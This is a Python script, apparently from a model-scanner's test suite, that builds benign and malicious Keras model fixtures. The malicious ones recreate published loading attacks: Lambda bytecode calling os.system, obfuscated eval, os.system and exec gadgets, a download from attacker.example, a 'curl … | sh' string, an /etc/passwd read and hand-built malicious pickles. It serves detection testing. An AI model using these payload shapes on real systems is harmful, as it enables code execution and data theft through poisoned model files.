#!/usr/bin/env python3
"""Regenerate the Keras fixtures under ``tests/assets/keras/``.

Why this exists: mlvet's Keras analysis must stay quiet on what Keras really writes and catch every
published attack on Keras loading. So there are three kinds of fixtures:

* ``benign/``: models saved by the real libraries: Keras 3 (torch backend) ``.keras``, folder and
  legacy ``.h5`` files, and tf.keras 2 (``tf_keras``) ``.h5``/``.keras`` files when a TensorFlow
  environment is given. A benign Lambda and a registered custom layer are real Keras files too; they
  are *expected* to give medium findings (code outside Keras' built-ins), listed in MANIFEST.json.
* ``malicious/``: configs written by hand after each published attack (CVE-2024-3660, CVE-2025-1550,
  CVE-2025-8747, CVE-2025-9905, CVE-2025-9906 and related gadgets), zipped or stored in HDF5 exactly
  as Keras lays them out. Payloads are harmless (they would ``touch`` a marker file), but the shapes
  are the real ones. Lambda bytecode is produced with ``marshal.dumps(compile(...))``; dumping is
  fine, this script never loads anything.
* ``marshal/``: one JSON file per available CPython (2.7, 3.6 - 3.13 via pyenv) with marshalled code
  objects and the names/strings that interpreter itself reports for them, to check the static marshal
  reader against every code-object layout.

Run::

    pip install keras h5py torch==2.13.0   # + tensorflow-cpu tf-keras for --tf-keras-python
    # optional tf.keras fixtures: a separate TensorFlow install (large), e.g.
    #   pip install --target /tmp/tfkeras_env tensorflow-cpu tf-keras
    python3 tests/assets/make_keras.py [--tf-keras-path /tmp/tfkeras_env] [--tf-keras-python PY]
    python3 tests/assets/make_keras.py --extra-only --tf-keras-python PY   # issue-9 fixtures only

Determinism: Keras writes the save date into metadata.json and object ids into ``shared_object_id``,
so benign files differ byte-wise between runs; their analysis does not.
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import marshal
import os
import shutil
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent / "keras"
BENIGN = HERE / "benign"
MALICIOUS = HERE / "malicious"
MARSHAL = HERE / "marshal"
MARKER = "/tmp/mlvet_keras_poc"
MANIFEST: dict[str, Any] = {}


def expect(path: Path, status: str, rules: dict[str, str] | None = None, note: str = "") -> None:
    """Record what mlvet must report for a fixture: status and {rule: minimum severity}."""
    MANIFEST[str(path.relative_to(HERE))] = {"status": status, "rules": rules or {}, "note": note}


# ---- helpers for hand-made files -------------------------------------------------------------------


def lambda_code(src: str) -> str:
    """base64 of marshal.dumps of the code object of ``lambda`` source, as Keras' func_dump writes it."""
    outer = compile(src, "<poc>", "eval")
    code = next(c for c in outer.co_consts if hasattr(c, "co_code"))
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


def tiny_weights_h5() -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers")
        f.create_group("vars")
    return buf.getvalue()


def write_keras(path: Path, config: dict[str, Any] | str, *, version: str = "3.8.0") -> None:
    """A .keras archive laid out as Keras writes it (metadata.json, config.json, model.weights.h5)."""
    text = config if isinstance(config, str) else json.dumps(config)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": version, "date_saved": "2025-01-01@00:00:00"}))
        zf.writestr("config.json", text)
        zf.writestr("model.weights.h5", tiny_weights_h5())


def write_h5(path: Path, model_config: dict[str, Any] | None, training_config: dict[str, Any] | None = None,
             *, userblock: bytes = b"") -> None:
    """A legacy Keras HDF5 model: root attributes only (Keras reads these before any weight)."""
    import h5py

    kwargs: dict[str, Any] = {}
    if userblock:
        size = 512
        while size < len(userblock):
            size *= 2
        kwargs["userblock_size"] = size
    with h5py.File(path, "w", **kwargs) as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        if model_config is not None:
            f.attrs["model_config"] = json.dumps(model_config)
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config)
        f.create_group("model_weights")
    if userblock:
        with open(path, "r+b") as fh:
            fh.write(userblock)


def layer(class_name: str, config: dict[str, Any], *, module: str | None = "keras.layers",
          inbound: list[Any] | None = None, registered: str | None = None) -> dict[str, Any]:
    name = config.get("name", class_name.lower())
    return {
        "module": module, "class_name": class_name, "config": config, "registered_name": registered,
        "name": name, "inbound_nodes": inbound if inbound is not None else [],
    }


def kt(src: str) -> dict[str, Any]:
    """A __keras_tensor__ reference to the output of layer ``src``."""
    return {"class_name": "__keras_tensor__", "config": {"shape": [None, 4], "dtype": "float32",
                                                        "keras_history": [src, 0, 0]}}


def functional(layers: list[dict[str, Any]], name: str = "functional") -> dict[str, Any]:
    last = layers[-1]["name"]
    return {
        "module": "keras.src.models.functional", "class_name": "Functional",
        "config": {"name": name, "trainable": True, "layers": layers,
                   "input_layers": ["x", 0, 0], "output_layers": [last, 0, 0]},
        "registered_name": "Functional", "build_config": {"input_shape": None}, "compile_config": None,
    }


def input_layer() -> dict[str, Any]:
    return layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False,
                                "ragged": False, "name": "x"})


def lambda_layer(name: str, function: Any, *, arguments: dict[str, Any] | None = None,
                 src: str = "x", kwargs: dict[str, Any] | None = None) -> dict[str, Any]:
    inbound = [{"args": [kt(src)], "kwargs": kwargs or {}}]
    return layer("Lambda", {"name": name, "trainable": True, "function": function,
                            "arguments": arguments or {}}, inbound=inbound)


def fn_ref(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def keras3_lambda(src: str) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"code": lambda_code(src), "defaults": None, "closure": None}}


EVIL_LAMBDA = f"lambda x: (__import__('os').system('touch {MARKER}'), x)[1]"


# ---- malicious fixtures ----------------------------------------------------------------------------


def make_malicious() -> None:
    MALICIOUS.mkdir(parents=True, exist_ok=True)
    m = MALICIOUS

    # CVE-2024-3660: Lambda bytecode in the Keras 3 .keras format.
    p = m / "lambda_os_system.keras"
    write_keras(p, functional([input_layer(), lambda_layer("evil", keras3_lambda(EVIL_LAMBDA))]))
    expect(p, "scanned", {"KER400": "critical"}, "CVE-2024-3660: Lambda bytecode calling os.system")

    # Same, hidden with getattr/string building (no 'os' or 'system' in co_names).
    p = m / "lambda_getattr.keras"
    src = "lambda x: getattr(__builtins__, 'ev' + 'al')(\"__imp\" + \"ort__('o' 's')\")"
    write_keras(p, functional([input_layer(), lambda_layer("sneaky", keras3_lambda(src))]))
    expect(p, "scanned", {"KER400": "critical"}, "Lambda reaching eval through getattr and string building")

    # Only the strings give it away: the names are harmless-looking.
    p = m / "lambda_command_string.keras"
    src = "lambda x: print('curl http://attacker.example/p.sh | sh') or x"
    write_keras(p, functional([input_layer(), lambda_layer("stringy", keras3_lambda(src))]))
    expect(p, "scanned", {"KER400": "high"}, "Lambda whose constants look like a shell command")

    # Keras 3 serialization_lib form: {"class_name": "__lambda__", "config": {"value": [code, ...]}}.
    p = m / "lambda_value_form.keras"
    value = {"class_name": "__lambda__", "config": {"value": [lambda_code(EVIL_LAMBDA), None, None]}}
    write_keras(p, functional([input_layer(), layer("Dense", {"name": "d", "units": 1, "activation": value},
                                                    inbound=[{"args": [kt("x")], "kwargs": {}}])]))
    expect(p, "scanned", {"KER400": "critical"}, "serialised lambda as an activation (serialize_keras_object form)")

    # CVE-2024-3660 / CVE-2025-9905: tf.keras HDF5 Lambda ([code, defaults, closure], function_type lambda).
    p = m / "lambda_os_system.h5"
    cfg = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "x"}},
        {"class_name": "Lambda", "config": {"name": "evil", "trainable": True, "dtype": "float32",
                                            "function": [lambda_code(EVIL_LAMBDA), None, None],
                                            "function_type": "lambda", "module": "__main__",
                                            "output_shape": None, "output_shape_type": "raw",
                                            "output_shape_module": None, "arguments": {}}},
    ]}}
    write_h5(p, cfg)
    expect(p, "scanned", {"KER400": "critical"}, "CVE-2025-9905: H5 Lambda runs even with safe_mode=True")

    # tf.keras Lambda referring to a function by name in an already-imported module (os.system).
    p = m / "lambda_function_os.h5"
    cfg = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "Lambda", "config": {"name": "by_name", "function": "system", "function_type": "function",
                                            "module": "os", "arguments": {}}}]}}
    write_h5(p, cfg)
    expect(p, "scanned", {"KER401": "critical"}, "tf.keras Lambda function_type=function, module=os")

    # CVE-2025-1550: module/class_name import of arbitrary functions (JFrog 'keras-custom' shape).
    p = m / "module_os_system.keras"
    write_keras(p, functional([input_layer(), lambda_layer(
        "cmd", fn_ref("os", "system"), kwargs={}, arguments={})]))
    expect(p, "scanned", {"KER401": "critical"}, "CVE-2025-1550: function os.system named in config")

    p = m / "module_builtins_exec.keras"
    f = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    write_keras(p, functional([input_layer(), lambda_layer("run", f, kwargs={"inputs": f"open('{MARKER}','w')"})]))
    expect(p, "scanned", {"KER401": "critical"}, "CVE-2025-1550: builtins.exec as a Lambda function")

    p = m / "module_subprocess_popen.keras"
    write_keras(p, {"module": "subprocess", "class_name": "Popen",
                    "config": {"args": ["touch", MARKER]}, "registered_name": None})
    expect(p, "scanned", {"KER401": "critical"}, "CVE-2025-1550: top-level object subprocess.Popen")

    # CVE-2025-8747: keras.utils.get_file reached through a Lambda (download + extract).
    p = m / "get_file.keras"
    write_keras(p, functional([input_layer(), lambda_layer(
        "download", fn_ref("keras.utils", "get_file"),
        arguments={"origin": "https://attacker.example/payload.tar.gz", "extract": True,
                   "cache_dir": "/tmp", "cache_subdir": "."})]))
    expect(p, "scanned", {"KER401": "critical"}, "CVE-2025-8747: keras.utils.get_file gadget")

    # CVE-2025-9906: enable_unsafe_deserialization first, then a Lambda with bytecode.
    p = m / "enable_unsafe_then_lambda.keras"
    write_keras(p, functional([
        input_layer(),
        lambda_layer("unlock", fn_ref("keras.config", "enable_unsafe_deserialization")),
        lambda_layer("evil", keras3_lambda(EVIL_LAMBDA), src="unlock"),
    ]))
    expect(p, "scanned", {"KER403": "critical", "KER400": "critical"},
           "CVE-2025-9906: safe mode disabled from the config, then a Lambda")

    # io-no's variant: the global-state setter, then load_model(..., safe_mode=False).
    p = m / "set_global_attribute.keras"
    write_keras(p, functional([
        input_layer(),
        lambda_layer("flip", fn_ref("keras.src.backend.common.global_state", "set_global_attribute"),
                     arguments={"value": False}, kwargs={"inputs": "safe_mode_saving"}),
        lambda_layer("reload", fn_ref("keras.models", "load_model"), arguments={"safe_mode": False},
                     kwargs={"inputs": "/tmp/other.keras"}, src="flip"),
    ]))
    expect(p, "scanned", {"KER403": "critical", "KER401": "critical"},
           "CVE-2025-9906 variant: set_global_attribute + load_model(safe_mode=False)")

    # A Lambda hidden three models deep (Functional > Sequential > Functional > Lambda).
    p = m / "nested_model_lambda.keras"
    inner = functional([input_layer(), lambda_layer("deep", keras3_lambda(EVIL_LAMBDA))], name="inner")
    middle = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "middle", "layers": [inner]}, "registered_name": None}
    middle_layer = dict(middle, name="middle", inbound_nodes=[{"args": [kt("x")], "kwargs": {}}])
    write_keras(p, functional([input_layer(), middle_layer], name="outer"))
    expect(p, "scanned", {"KER400": "critical"}, "Lambda nested in sub-models")

    # Duplicate keys: a first-wins reader sees the benign layers, Python's json (Keras) the last.
    p = m / "duplicate_key.keras"
    benign_layers = json.dumps([input_layer()])
    evil_layers = json.dumps([input_layer(), lambda_layer("evil", keras3_lambda(EVIL_LAMBDA))])
    text = ('{"module": "keras.src.models.functional", "class_name": "Functional", "config": {"name": "f", '
            f'"layers": {benign_layers}, "layers": {evil_layers}, '
            '"input_layers": ["x", 0, 0], "output_layers": ["evil", 0, 0]}, "registered_name": "Functional"}')
    write_keras(p, text)
    expect(p, "scanned", {"KER405": "medium", "KER400": "critical"}, "duplicate JSON keys")

    # tf.keras TFOpLambda calling tf.io.write_file.
    p = m / "tfoplambda_write_file.h5"
    cfg = {"class_name": "Functional", "config": {"name": "m", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 1], "dtype": "string", "name": "x"},
         "name": "x", "inbound_nodes": []},
        {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"},
         "name": "tf.io.write_file", "inbound_nodes": [["x", 0, 0, {"contents": "pwned", "filename": MARKER}]]},
    ], "input_layers": [["x", 0, 0]], "output_layers": [["tf.io.write_file", 0, 0]]}}
    write_h5(p, cfg)
    expect(p, "scanned", {"KER401": "critical"}, "TFOpLambda writing a file")

    # Loss function named in training_config (compile arguments are deserialised too).
    p = m / "training_config_loss.h5"
    write_h5(p, {"class_name": "Sequential", "config": {"name": "s", "layers": []}},
             {"loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": None},
              "metrics": [], "optimizer_config": {"class_name": "Adam", "config": {}}})
    expect(p, "scanned", {"KER401": "critical"}, "dangerous loss function in training_config")

    # TFSMLayer pointing at an attacker's SavedModel; lookup vocabulary read from a local path.
    p = m / "tfsmlayer.keras"
    write_keras(p, functional([input_layer(), layer("TFSMLayer", {
        "name": "ext", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
        inbound=[{"args": [kt("x")], "kwargs": {}}])]))
    expect(p, "scanned", {"KER404": "high"}, "TFSMLayer loads an external SavedModel")

    p = m / "vocabulary_path.keras"
    write_keras(p, functional([input_layer(), layer("StringLookup", {
        "name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1},
        inbound=[{"args": [kt("x")], "kwargs": {}}])]))
    expect(p, "scanned", {"KER404": "high"}, "CVE-2025-12058: StringLookup vocabulary read from a local file")

    # TorchModuleWrapper: base64 torch.save bytes, here a plain malicious pickle.
    p = m / "torch_wrapper_pickle.keras"
    evil_pickle = (b"\x80\x02cposix\nsystem\nq\x00X" + len(f"touch {MARKER}").to_bytes(4, "little")
                   + f"touch {MARKER}".encode() + b"q\x01\x85q\x02Rq\x03.")
    write_keras(p, functional([input_layer(), layer("TorchModuleWrapper", {
        "name": "torch_module_wrapper", "module": base64.b64encode(evil_pickle).decode(), "output_shape": None},
        inbound=[{"args": [kt("x")], "kwargs": {}}])]))
    expect(p, "scanned", {"KER406": "medium", "PKL100": "critical"}, "pickle embedded in TorchModuleWrapper")

    # Folder format / Hugging Face Keras repo: a bare config.json (plus metadata and weights).
    folder = m / "folder_model"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text(json.dumps(
        functional([input_layer(), lambda_layer("evil", keras3_lambda(EVIL_LAMBDA))])))
    (folder / "metadata.json").write_text(json.dumps({"keras_version": "3.8.0"}))
    (folder / "model.weights.h5").write_bytes(tiny_weights_h5())
    expect(folder / "config.json", "scanned", {"KER400": "critical"}, "folder-format model (hf:// loading)")
    expect(folder / "model.weights.h5", "scanned", {}, "weights only")
    expect(folder / "metadata.json", "skipped", {}, "plain JSON text")

    # A config that hides its class_name key behind \\u escapes and 8 KiB of a dummy first key.
    p = m / "escaped_keys_config.json"
    text = json.dumps(fn_ref("os", "system"))
    text = '{"_pad": "' + "A" * 8192 + '", ' + text[1:].replace('"class_name"', '"\\u0063lass_name"')
    p.write_text(text)
    expect(p, "scanned", {"KER401": "critical"}, "escaped key spelling and padding")

    # HDF5 polyglot: a pickle in the user block (pickle.load on the file runs it; h5py skips it).
    p = m / "userblock_pickle.h5"
    write_h5(p, {"class_name": "Sequential", "config": {"name": "s", "layers": []}}, userblock=evil_pickle)
    expect(p, "scanned", {"PKL100": "critical"}, "pickle hidden in the HDF5 user block")


# ---- benign fixtures from the real libraries ---------------------------------------------------------

KERAS3_SCRIPT = r'''
import os, sys, json
os.environ["KERAS_BACKEND"] = "torch"
import numpy as np
import keras
from keras import layers
out = sys.argv[1]
keras.utils.set_random_seed(0)

seq = keras.Sequential([keras.Input((8,)), layers.Dense(16, activation="relu", kernel_regularizer="l2"),
                        layers.BatchNormalization(), layers.Dropout(0.1),
                        layers.Dense(4, activation="softmax", kernel_constraint=keras.constraints.MaxNorm(2.0))],
                       name="seq")
seq.compile(optimizer=keras.optimizers.Adam(1e-3), loss="categorical_crossentropy",
            metrics=["accuracy", keras.metrics.AUC()])
seq.save(f"{out}/k3_sequential.keras")
seq.save(f"{out}/k3_sequential.h5")
seq.save_weights(f"{out}/k3_sequential.weights.h5")

tokens = keras.Input((6,), dtype="int32", name="tokens")
feats = keras.Input((3,), name="feats")
emb = layers.Embedding(50, 8)(tokens)
conv = layers.Conv1D(4, 3, padding="same", activation="gelu")(emb)
pooled = layers.GlobalAveragePooling1D()(conv)
rnn = layers.GRU(4)(emb)
shared = layers.Dense(4, name="shared")
merged = layers.Concatenate()([pooled, rnn, shared(feats)])
sub = keras.Sequential([layers.Dense(4, activation="tanh"), layers.LayerNormalization()], name="sub")
out_t = layers.Dense(1, activation="sigmoid", kernel_initializer=keras.initializers.HeNormal(seed=1))(sub(merged))
fun = keras.Model([tokens, feats], out_t, name="fun")
fun.compile(optimizer="rmsprop", loss=keras.losses.BinaryCrossentropy(label_smoothing=0.1), metrics=["mae"])
fun.save(f"{out}/k3_functional.keras")
fun.save(f"{out}/k3_functional.h5")
keras.saving.save_model(fun, f"{out}/k3_folder", zipped=False)

inp = keras.Input((4,), name="x")
lam = keras.Model(inp, layers.Dense(1)(layers.Lambda(lambda x: x * 2, name="double")(inp)), name="lam")
lam.save(f"{out}/k3_lambda.keras")
lam.save(f"{out}/k3_lambda.h5")

@keras.saving.register_keras_serializable(package="my_pkg")
class AddOne(layers.Layer):
    def call(self, x):
        return x + 1

@keras.saving.register_keras_serializable(package="my_pkg")
def my_loss(y, p):
    return keras.ops.mean((y - p) ** 2)

cust = keras.Sequential([keras.Input((3,)), AddOne(), layers.Dense(1)], name="cust")
cust.compile(optimizer="sgd", loss=my_loss)
cust.save(f"{out}/k3_custom.keras")

s_in = keras.Input((1,), dtype="string")
look = keras.Model(s_in, layers.StringLookup(vocabulary=["a", "b", "c"])(s_in), name="look")
look.save(f"{out}/k3_lookup.keras")

import torch
wrap_in = keras.Input((4,))
wrapped = layers.TorchModuleWrapper(torch.nn.Linear(4, 2), output_shape=(None, 2))
wrap = keras.Model(wrap_in, wrapped(wrap_in), name="wrap")
wrap.save(f"{out}/k3_torch_wrapper.keras")
print(json.dumps({"keras": keras.__version__, "torch": torch.__version__}))
'''

TFKERAS_SCRIPT = r'''
import os, sys, json
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow as tf
import tf_keras as keras
out = sys.argv[1]
tf.random.set_seed(0)
inp = keras.Input((4,), name="x")
h = keras.layers.Dense(3, activation="relu")(inp)
h = tf.math.add(h, 1.0)
h = keras.layers.Dense(1)(h)
m = keras.Model(inp, h, name="tfk")
m.compile(optimizer="adam", loss="mse", metrics=["mae"])
m.save(f"{out}/tfk_functional.h5")
m.save(f"{out}/tfk_functional.keras")
lam_in = keras.Input((4,), name="x")
lam = keras.Model(lam_in, keras.layers.Lambda(lambda x: x * 2, name="double")(lam_in), name="tfk_lam")
lam.save(f"{out}/tfk_lambda.h5")
print(json.dumps({"tensorflow": tf.__version__, "tf_keras": keras.__version__}))
'''


def run_script(script: str, env: dict[str, str]) -> dict[str, Any]:
    res = subprocess.run([sys.executable, "-c", script, str(BENIGN)], env=env, capture_output=True, text=True,
                         check=False)
    if res.returncode:
        sys.exit(f"fixture script failed:\n{res.stderr[-4000:]}")
    return dict(json.loads(res.stdout.strip().splitlines()[-1]))


def make_benign(tf_keras_path: str | None) -> dict[str, Any]:
    BENIGN.mkdir(parents=True, exist_ok=True)
    versions: dict[str, Any] = {}
    env = dict(os.environ, KERAS_BACKEND="torch")
    folder = BENIGN / "k3_folder"
    if folder.exists():
        shutil.rmtree(folder)
    versions.update(run_script(KERAS3_SCRIPT, env))
    for name in ("k3_sequential.keras", "k3_sequential.h5", "k3_sequential.weights.h5", "k3_functional.keras",
                 "k3_functional.h5", "k3_lookup.keras", "k3_folder/config.json", "k3_folder/model.weights.h5"):
        expect(BENIGN / name, "scanned", {}, "real Keras 3 file")
    expect(BENIGN / "k3_folder/metadata.json", "skipped", {}, "plain JSON text")
    expect(BENIGN / "k3_lambda.keras", "scanned", {"KER400": "medium"}, "benign Lambda: still code on load")
    expect(BENIGN / "k3_lambda.h5", "scanned", {"KER400": "high"},
           "benign Lambda in legacy HDF5: code that runs on load whatever safe_mode says (high)")
    expect(BENIGN / "k3_custom.keras", "scanned", {"KER402": "low"},
           "registered custom layer and loss: the loader's own code, none in the file (low)")
    expect(BENIGN / "k3_torch_wrapper.keras", "scanned", {"KER406": "medium"},
           "TorchModuleWrapper embeds a torch.save pickle (torch classes only)")
    if tf_keras_path:
        env = dict(os.environ, PYTHONPATH=tf_keras_path)
        versions.update(run_script(TFKERAS_SCRIPT, env))
    if (BENIGN / "tfk_functional.h5").exists():
        expect(BENIGN / "tfk_functional.h5", "scanned", {}, "real tf.keras 2 HDF5 (TFOpLambda, Custom>Adam)")
        expect(BENIGN / "tfk_functional.keras", "scanned", {}, "real tf.keras 2 .keras")
        expect(BENIGN / "tfk_lambda.h5", "scanned", {"KER400": "high"},
               "benign tf.keras Lambda in HDF5: code that runs on load, no safe mode (high)")
    return versions


# ---- marshal vectors -------------------------------------------------------------------------------

MARSHAL_SCRIPT = textwrap.dedent(r'''
import base64, json, marshal, sys
SOURCES = {
    "lambda": ("lambda x: x * 2", "eval"),
    "evil": ("import os; os.system('curl http://x | sh')", "exec"),
    "getattr": ("lambda x: getattr(__builtins__, 'ev' + 'al')('1+1')", "eval"),
    "nested": ("def f(a, b=3, *args, **kw):\n    c = [i * a for i in range(b) if i]\n"
               "    def g(y):\n        return y + c[0] + a\n"
               "    return g(1), {1: 2.5, 'k': (1+2j)}, frozenset([1, 2]), b'raw', 10**40, -7, None, True\n",
               "exec"),
}
def walk(code, names, strs):
    names.extend(code.co_names)
    for c in code.co_consts:
        if isinstance(c, (tuple, frozenset)):
            for x in c:
                if isinstance(x, str): strs.append(x)
        if isinstance(c, str): strs.append(c)
        elif isinstance(c, bytes): strs.append(c.decode("latin-1"))
        elif hasattr(c, "co_code"): walk(c, names, strs)
out = {"version": "%d.%d" % sys.version_info[:2], "vectors": {}}
for key, (src, mode) in SOURCES.items():
    code = compile(src, "<vector>", mode)
    if mode == "eval":
        code = [c for c in code.co_consts if hasattr(c, "co_code")][0]
    names, strs = [], []
    walk(code, names, strs)
    out["vectors"][key] = {"b64": base64.b64encode(marshal.dumps(code)).decode("ascii"),
                           "name": code.co_name, "names": sorted(set(names)), "strings": sorted(set(strs))}
sys.stdout.write(json.dumps(out, indent=1, sort_keys=True))
''')


def make_marshal_vectors() -> list[str]:
    MARSHAL.mkdir(parents=True, exist_ok=True)
    made = []
    root = Path(os.environ.get("PYENV_ROOT", Path.home() / ".pyenv")) / "versions"
    interpreters = sorted(root.glob("*/bin/python")) if root.is_dir() else []
    for exe in interpreters or [Path(sys.executable)]:
        try:
            res = subprocess.run([str(exe), "-c", MARSHAL_SCRIPT], check=True, capture_output=True, text=True,
                                 timeout=60)
        except (subprocess.SubprocessError, OSError):
            continue
        data = json.loads(res.stdout)
        (MARSHAL / f"py{data['version']}.json").write_text(res.stdout + "\n")
        made.append(data["version"])
    return made


# ---- extra fixtures (issue 9): custom objects, preprocessing layers, CVE-2025-12058 PoCs ---------------
# Run with ``--extra-only`` to (re)make just these and merge them into the existing manifest.

KERAS3_EXTRA_SCRIPT = r"""
import os, sys, json, tempfile
os.environ.setdefault("KERAS_BACKEND", "torch")
import numpy as np
import keras
from keras import layers
out = sys.argv[1]
keras.utils.set_random_seed(0)

# An unregistered custom layer living in an importable module: Keras writes module='acme_layers'.
pkg = tempfile.mkdtemp()
with open(os.path.join(pkg, "acme_layers.py"), "w") as fh:
    fh.write("import keras\n"
             "class Scale(keras.layers.Layer):\n"
             "    def __init__(self, k=2.0, **kw):\n"
             "        super().__init__(**kw)\n"
             "        self.k = k\n"
             "    def call(self, x):\n"
             "        return x * self.k\n"
             "    def get_config(self):\n"
             "        return {**super().get_config(), 'k': self.k}\n")
sys.path.insert(0, pkg)
from acme_layers import Scale

class Plain(layers.Layer):  # unregistered, defined in __main__
    def call(self, x):
        return x + 1

@keras.saving.register_keras_serializable(package="acme")
class Act(layers.Layer):
    def call(self, x):
        return keras.ops.relu(x)

@keras.saving.register_keras_serializable()
def swishy(x):
    return x * keras.ops.sigmoid(x)

@keras.saving.register_keras_serializable(package="acme")
class MyLoss(keras.losses.Loss):
    def call(self, y, p):
        return keras.ops.mean((y - p) ** 2)

@keras.saving.register_keras_serializable(package="acme")
class MyInit(keras.initializers.Initializer):
    def __call__(self, shape, dtype=None):
        return keras.ops.zeros(shape, dtype=dtype)

@keras.saving.register_keras_serializable(package="acme")
class MyReg(keras.regularizers.Regularizer):
    def __call__(self, x):
        return 0.01 * keras.ops.sum(x)
    def get_config(self):
        return {}

@keras.saving.register_keras_serializable(package="acme")
def my_metric(y, p):
    return keras.ops.mean(y)

inp = keras.Input((3,))
h = Act()(Scale(3.0)(Plain()(inp)))
h = layers.Dense(4, activation=swishy, kernel_initializer=MyInit(), kernel_regularizer=MyReg())(h)
m = keras.Model(inp, h, name="custom_objects")
m.compile(optimizer="adam", loss=MyLoss(), metrics=[my_metric])
m.save(f"{out}/k3_custom_objects.keras")
m.save(f"{out}/k3_custom_objects.h5")

@keras.saving.register_keras_serializable(package="acme")
class TwoTower(keras.Model):
    def __init__(self, units=4, **kw):
        super().__init__(**kw)
        self.units = units
        self.a = layers.Dense(units)
        self.b = layers.Dense(1)
    def call(self, x):
        return self.b(self.a(x))
    def get_config(self):
        return {**super().get_config(), "units": self.units}

sub = TwoTower(4, name="two_tower")
sub(np.zeros((1, 3), "float32"))
sub.save(f"{out}/k3_subclassed.keras")

# Standard preprocessing layers; the file vocabulary is stored as an archive asset by Keras 3.12+.
vocab = os.path.join(pkg, "vocab.txt")
with open(vocab, "w") as fh:
    fh.write("red\ngreen\nblue\n")
s_in = keras.Input((1,), dtype="string", name="colour")
i_in = keras.Input((1,), dtype="int64", name="code")
t_in = keras.Input((1,), dtype="string", name="text")
n_in = keras.Input((2,), name="num")
norm = layers.Normalization()
norm.adapt(np.array([[0.0, 1.0], [2.0, 3.0]], "float32"))
tv = layers.TextVectorization(max_tokens=20, output_sequence_length=4)
tv.adapt(np.array(["the cat sat", "the dog ran"]))
parts = [
    layers.StringLookup(vocabulary=vocab, output_mode="one_hot")(s_in),
    layers.IntegerLookup(vocabulary=[1, 2, 3], output_mode="multi_hot")(i_in),
    keras.ops.cast(tv(t_in), "float32"),
    layers.Hashing(num_bins=8, output_mode="one_hot")(s_in),
    norm(n_in),
    layers.Discretization(bin_boundaries=[0.0, 1.0])(n_in),
    layers.Rescaling(0.5, offset=1.0)(n_in),
]
pre = keras.Model([s_in, i_in, t_in, n_in], layers.Concatenate()([keras.ops.cast(p, "float32") for p in parts]),
                  name="preprocessing")
pre.save(f"{out}/k3_preprocessing.keras")
img = keras.Sequential([keras.Input((8, 8, 3)), layers.Resizing(4, 4), layers.RandomFlip(), layers.RandomRotation(0.1),
                        layers.CenterCrop(4, 4), layers.Conv2D(2, 3), layers.Flatten()], name="image_pre")
img.save(f"{out}/k3_image_preprocessing.keras")
print(json.dumps({"keras": keras.__version__}))
"""

TFKERAS_EXTRA_SCRIPT = r"""
import os, sys, json
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow as tf
import tf_keras as keras
out = sys.argv[1]
tf.random.set_seed(0)

@keras.utils.register_keras_serializable(package="acme")
class AddOne(keras.layers.Layer):
    def call(self, x):
        return x + 1.0

@keras.utils.register_keras_serializable(package="acme")
def my_loss(y, p):
    return tf.reduce_mean((y - p) ** 2)

inp = keras.Input((4,), name="x")
m = keras.Model(inp, keras.layers.Dense(1)(AddOne()(inp)), name="tfk_custom")
m.compile(optimizer="adam", loss=my_loss)
m.save(f"{out}/tfk_custom.h5")
m.save(f"{out}/tfk_custom.keras")
import yaml  # what Keras 2's model.to_yaml() wrote: yaml.dump of the config (tuples as !!python/tuple)
conv = keras.Sequential([keras.Input((8, 8, 1)), keras.layers.Conv2D(2, (3, 3)), keras.layers.Flatten()])
with open(f"{out}/tfk_model_config.yaml", "w") as fh:
    yaml.dump({"class_name": "Sequential", "config": conv.get_config(), "keras_version": keras.__version__,
               "backend": "tensorflow"}, fh)
print(json.dumps({"tensorflow": tf.__version__, "tf_keras": keras.__version__}))
"""


def _poc_vocabulary(src: Path, dst: Path, layer_class: str, path: str) -> None:
    """CVE-2025-12058 PoC: a real Keras archive whose lookup layer's vocabulary is edited to a local path.

    This is how the advisory's proof of concept is built: save a model, then set ``vocabulary`` in
    config.json to the file to steal and drop the in-archive asset, so loading reads the path.
    """
    with zipfile.ZipFile(src) as zin:
        config = json.loads(zin.read("config.json"))
        members = [(i, zin.read(i)) for i in zin.infolist() if not i.filename.startswith("assets/")]
    hits = 0
    stack: list[Any] = [config]
    while stack:
        obj = stack.pop()
        if isinstance(obj, dict):
            if obj.get("class_name") == layer_class and isinstance(obj.get("config"), dict):
                obj["config"]["vocabulary"] = path
                hits += 1
            stack.extend(obj.values())
        elif isinstance(obj, list):
            stack.extend(obj)
    if not hits:
        sys.exit(f"{layer_class} not found in {src}")
    with zipfile.ZipFile(dst, "w") as zout:
        for info, data in members:
            zout.writestr(info, json.dumps(config) if info.filename == "config.json" else data)


VOCAB_SCRIPT = r"""
import os, sys, json
os.environ.setdefault("KERAS_BACKEND", "torch")
import numpy as np
import keras
from keras import layers
out = sys.argv[1]
for cls, dtype, vocab in (("StringLookup", "string", ["a", "b"]), ("IntegerLookup", "int64", [1, 2]),
                          ("TextVectorization", "string", ["a", "b"])):
    x = keras.Input((1,), dtype=dtype)
    layer = getattr(layers, cls)(vocabulary=vocab)
